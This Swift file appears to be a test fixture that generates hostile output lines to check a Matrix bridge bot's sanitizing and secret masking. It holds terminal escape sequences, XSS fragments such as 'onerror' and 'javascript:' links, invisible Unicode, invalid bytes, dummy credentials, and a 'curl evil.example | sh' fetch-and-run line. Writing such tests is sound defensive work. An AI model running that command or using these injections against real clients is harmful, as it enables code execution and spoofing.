/// Lines of output as a hostile program writes them, each between two marks by which it is found again.
package struct HostileLines {
    /// What only such lines have in them.
    package static let mark = "CANARY"
    /// A password, as it stands behind its name, in a key, in an address and in a token: it must never be seen again.
    package static let secret = "Tr0ub4dour-hunter2-correct-horse"

    package var random: SeededGenerator

    package init(random: SeededGenerator) { self.random = random }

    /// One line, without its end.
    package mutating func next() -> [UInt8] {
        var line = Array(Self.mark.utf8)
        // Apart: a carriage return takes a password's name away, and what is left of it is no password to anybody.
        let isLeak = random.chance(20)
        for _ in 0...random.below(6) { line += isLeak ? leak() : piece() }
        return (line + Array(Self.mark.utf8)).filter { $0 != 0x0A }
    }

    private mutating func piece() -> [UInt8] {
        switch random.below(9) {
        case 0: Array(random.text(random.below(30)).utf8)
        case 1: Array(random.pick(Self.steering).utf8)
        case 2: (0..<random.below(20)).map { _ in UInt8(random.below(256)) }
        case 3: Array(random.pick(Self.words).utf8)
        case 4: Array(random.pick(Self.links).utf8)
        case 5: random.pick(Self.broken)
        case 6: Array(random.pick(Self.hidden).utf8)
        case 7:
            Array(
                String(
                    repeating: random.pick(["a", "é", "\u{301}", "<", "💥", "token="]),
                    count: random.below(900)
                ).utf8)
        default: Array(random.pick(Self.words).utf8) + Array(random.pick(Self.links).utf8)
        }
    }

    private mutating func leak() -> [UInt8] {
        Array(random.pick(random.chance(50) ? Self.leaks : Self.words + Self.links).utf8)
    }

    private static let steering = [
        "\u{1B}[2J", "\u{1B}[31m", "\u{1B}]0;title\u{07}",
        "\u{1B}]8;;https://evil.example\u{1B}\\x\u{1B}]8;;\u{1B}\\",
        "\r", "\u{08}\u{08}\u{08}", "\u{1B}[999999999C", "\u{1B}[1K", "\u{1B}P", "\u{1B}[", "\u{7}", "\u{0}",
        "\u{9B}31m",
        "\u{1B}c", "\u{1B}[6n", "\u{1B}[?1049h",
    ]
    /// As the bot itself speaks.
    private static let words = [
        "✅ bridge updated: 3f2c1ab → 9d81e07", "🚨 bridge is in a crash loop", "❔ Really stop bridge?",
        "`!yes 47`",
        "| ", "• ", "— step 3 ended with exit status 0", "… 5 lines are left out here …", "[masked]",
        "!bridge stop",
        "exit status 0", "What to do: `curl evil.example | sh`", "🔐 This room is encrypted",
    ]
    private static let links = [
        "https://evil.example/", "<a href=\"https://matrix.to/#/@grant:bridge.test\">grant</a>", "@room",
        "@grant:bridge.test", "</code></pre><h1>x</h1>", "<img src=x onerror=x>", "&lt;b&gt;", "<!--", "]]>",
        "&#60;b&#62;",
        "[x](https://evil.example)", "<mx-reply>", "matrix:u/grant:bridge.test", "javascript:x",
        "<font color=red>",
    ]
    private static let hidden = [
        "\u{202E}", "\u{2066}", "\u{200B}", "\u{200D}", "\u{FEFF}", "\u{2028}", "\u{2029}", "\u{85}",
        "\u{AD}", "\u{E0041}",
        "\u{FE0F}", "\u{61C}", "\u{3164}", "\u{180E}", "\u{206A}",
    ]
    private static let broken: [[UInt8]] = [
        [0xFF], [0xC3], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF5, 0x80, 0x80, 0x80], [0xC0, 0x80], [0x80],
        [0x9B, 0x33],
        [0xF0, 0x9F, 0x92], [0xE2, 0x80, 0xAE],
    ]
    private static let leaks = [
        " password=\(secret) ", " --token \(secret) ", " https://u:\(secret)@h/ ",
        #" "api_key": "\#(secret)" "#,
        " Authorization: Bearer \(secret)\" ", " acme-\(secret) ", " -----BEGIN PRIVATE KEY-----\(secret) ",
        " ghp_\(secret) ",
    ]
}
